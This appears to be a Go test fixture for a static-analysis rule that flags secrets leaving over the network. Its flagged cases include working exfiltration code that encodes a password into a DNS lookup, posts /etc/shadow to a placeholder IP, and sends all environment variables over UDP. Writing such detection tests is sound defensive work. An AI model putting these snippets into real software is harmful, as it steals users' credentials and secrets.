package agent

import (
	"bytes"
	"encoding/hex"
	"fmt"
	"net"
	"net/http"
	"os"
)

type user struct{ Name, Password string }

func label(u *user) string {
	return hex.EncodeToString([]byte(u.Password))
}

func ask(u *user) {
	name := label(u) + ".t.example.org"
	// ruleid: go-secret-leaves-by-network
	net.LookupHost(name)
}

func accounts() {
	text, _ := os.ReadFile("/etc/shadow")
	// ruleid: go-secret-leaves-by-network
	http.Post("http://198.51.100.4/u", "text/plain", bytes.NewReader(text))
}

func everything() {
	c, err := net.Dial("udp", "203.0.113.8:5353")
	if err != nil {
		return
	}
	// ruleid: go-secret-leaves-by-network
	fmt.Fprintf(c, "%v", os.Environ())
}

func page(n int) {
	// ok: go-secret-leaves-by-network
	http.Get(fmt.Sprintf("https://example.net/p/%d", n))
}

func name(host string) {
	// ok: go-secret-leaves-by-network
	net.LookupHost(host)
}

func kept(u *user) {
	// ok: go-secret-leaves-by-network
	fmt.Println(u.Password)
}
